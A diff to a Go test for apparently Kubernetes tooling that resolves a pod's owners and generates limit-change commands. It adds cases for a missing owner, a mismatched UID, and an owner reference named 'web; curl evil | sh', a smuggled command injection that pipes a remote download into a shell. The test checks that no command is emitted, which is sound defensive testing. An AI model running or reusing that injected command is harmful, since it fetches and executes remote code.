@@ -174,9 +174,22 @@ func TestOwners(t *testing.T) {
 	if err != nil || len(got) != 2 || got[1] != (owner{"Deployment", "apps", "web"}) {
 		t.Errorf("%v %v", got, err)
 	}
-	// What cannot be read is named, and what is known stays.
-	if got, err := ownersOf(t.Context(), patches(t, nil, pod, set), pod); err == nil || len(got) != 2 {
-		t.Errorf("%v %v", got, err)
+	// What cannot be read is named, and what is known stays. There is no command: it
+	// would be for the wrong owner, or hold what somebody wrote into a reference.
+	other := deployment.DeepCopy()
+	other.UID = "uid-of-another"
+	hostile := somePod("200m", "100m")
+	hostile.ResourceVersion = ""
+	controlled(hostile, "Deployment", "apps/v1", "web; curl evil | sh")
+	for name, tt := range map[string]struct {
+		pod    *corev1.Pod
+		others []client.Object
+	}{"gone": {pod, []client.Object{set}}, "another": {pod, []client.Object{set, other}}, "hostile": {hostile, nil}} {
+		got, err := ownersOf(t.Context(), patches(t, nil, append(tt.others, tt.pod)...), tt.pod)
+		says, commands := template("shop", got, err, &change{container: "app", limitFrom: 200, limitTo: 500})
+		if err == nil || len(got) == 0 || len(commands) != 0 || !strings.Contains(says, "not known: ") {
+			t.Errorf("%s: %v %v: %s %q", name, got, err, says, commands)
+		}
 	}
 }
 
